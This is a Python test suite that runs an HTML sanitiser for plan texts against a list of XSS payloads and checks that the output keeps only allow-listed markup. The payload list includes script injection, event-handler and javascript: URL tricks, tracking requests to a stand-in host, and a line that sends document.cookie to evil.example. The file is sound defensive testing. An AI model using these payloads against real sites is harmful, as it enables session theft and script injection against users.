"""HTML sanitising of plan texts against a list of XSS payloads (OWASP cheat-sheet style).

Every payload goes through plans.richtext.sanitise_html; the result is parsed and must contain
only allow-listed elements and attributes, no script-capable URL, no style, no remote picture.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

richtext = pytest.importorskip("plans.richtext")
sanitise_html = richtext.sanitise_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    "<img src=x onerror=alert(1)>",
    '<img src="/media/richtext/a.png" alt="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=\"jav&#x09;ascript:alert('XSS');\">",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<img src="https://evil.example/pixel.gif" alt="spårning">',
    '<img src="//evil.example/pixel.gif" alt="spårning">',
    '<img src="http://127.0.0.1:8000/admin/" alt="intern">',
    '<img src="/media/richtext/../../etc/passwd.png" alt="x">',
    '<img src="file:///etc/passwd" alt="x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
    '<img src="/media/richtext/ok.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">klicka</a>',
    '<a href="JaVaScRiPt:alert(1)">klicka</a>',
    '<a href=" javascript:alert(1)">klicka</a>',
    '<a href="java\tscript:alert(1)">klicka</a>',
    '<a href="&#x6A;avascript:alert(1)">klicka</a>',
    '<a href="vbscript:msgbox(1)">klicka</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klicka</a>',
    '<a href="https://example.se" onclick="alert(1)">länk</a>',
    '<a href="https://example.se" target="_blank">länk</a>',
    '<p style="background:url(javascript:alert(1))">text</p>',
    '<p style="width: expression(alert(1))">text</p>',
    '<div style="background-image: url(https://evil.example/track.png)">text</div>',
    "<style>body{background:url('https://evil.example/x.png')}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="q"><button>Skicka</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<body onload=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="https://evil.example/x.png">x</td>',
    '<th scope="javascript:alert(1)">x</th>',
    '<td colspan="99999">x</td>',
    '<p id="main" class="button">text</p>',
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<p>text<script>alert(1)</script>mer text</p>",
    '<a href="https://example.se"><img src=x onerror=alert(1)></a>',
    "<p>\u0000<script>alert(1)</script></p>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    '<xss onpointerover="alert(1)">hover</xss>',
    '<h1 onclick="alert(1)" style="color:red">Rubrik</h1>',
    '<h1><a href="javascript:alert(1)">Rubrik</a></h1>',
    '<a href="javascript:alert(1)"><h1>Rubrik</h1></a>',
]

ALLOWED = {tag: set(attrs) for tag, attrs in richtext.ALLOWED_ATTRIBUTES.items()}
ALLOWED_TAGS = set(richtext.ALLOWED_TAGS) - {"b", "i"}  # stored as strong/em
SAFE_LINK = re.compile(r"^(https?://|mailto:)", re.IGNORECASE)


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.stack: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            value = value or ""
            # nh3 keeps `title` and `lang` everywhere (escaped text, harmless) and adds rel.
            harmless = name in {"title", "lang"} or (tag == "a" and name == "rel")
            if name not in ALLOWED.get(tag, set()) and not harmless:
                self.problems.append(f"attribute {name} on <{tag}>")
            if tag == "a" and name == "href" and not SAFE_LINK.match(value):
                self.problems.append(f"link {value!r}")
            if tag == "img" and name == "src" and not richtext.is_own_image_url(value):
                self.problems.append(f"picture from {value!r}")
        if tag == "img" and not dict(attrs).get("alt", "").strip():
            self.problems.append("picture without alt text")
        if tag == "a" and not dict(attrs).get("href"):
            self.problems.append("link going nowhere")  # its address was refused: text only

    def handle_comment(self, data):
        self.problems.append("comment kept")


def inspect(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    clean = sanitise_html(payload)
    assert inspect(clean) == [], f"{payload!r} → {clean!r}"
    lowered = clean.lower()
    for needle in ("javascript:", "vbscript:", "data:", "expression(", "url(", "@import"):
        if needle in lowered:
            # Only as harmless visible text (escaped), never inside markup.
            assert not re.search(rf"<[^>]*{re.escape(needle)}", lowered), f"{payload!r} → {clean!r}"
    assert "alert(1)</script" not in lowered
    assert sanitise_html(clean) == clean, "sanitising twice must not change the result"


def test_script_and_style_contents_are_dropped_not_shown():
    assert "alert" not in sanitise_html("<p>Före</p><script>alert(1)</script><p>Efter</p>")
    assert "evil" not in sanitise_html("<style>body{background:url(https://evil.example)}</style>")


def test_what_a_plan_needs_survives():
    html = (
        "<h2>Bakgrund</h2><p>Förbundet har <strong>sju</strong> kommuner och "
        '<em>två</em> regioner. Se <a href="https://finsam.se">finsam.se</a>.</p>'
        "<ul><li>FK</li><li>AF</li></ul>"
        '<table><caption>Bidrag</caption><tr><th scope="col">Medlem</th></tr>'
        "<tr><td>Arvika</td></tr></table>"
        '<p><img src="/media/richtext/karta.png" alt="Karta över området"></p>'
    )
    clean = sanitise_html(html)
    for piece in (
        "<h2>Bakgrund</h2>",
        "<strong>sju</strong>",
        "<em>två</em>",
        'href="https://finsam.se"',
        "<li>FK</li>",
        '<th scope="col">Medlem</th>',
        '<img src="/media/richtext/karta.png" alt="Karta över området">',
    ):
        assert piece in clean, f"{piece} lost in {clean!r}"
    assert inspect(clean) == []


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.text(max_size=30),
            st.sampled_from(PAYLOADS),
            st.sampled_from(["<", ">", '"', "'", "&", "<p>", "</p>", "<a href=", "<img ", "on"]),
        ),
        max_size=12,
    )
)
def test_random_mixtures_come_out_clean(parts):
    html = "".join(parts)
    clean = sanitise_html(html)
    assert inspect(clean) == [], f"{html!r} → {clean!r}"
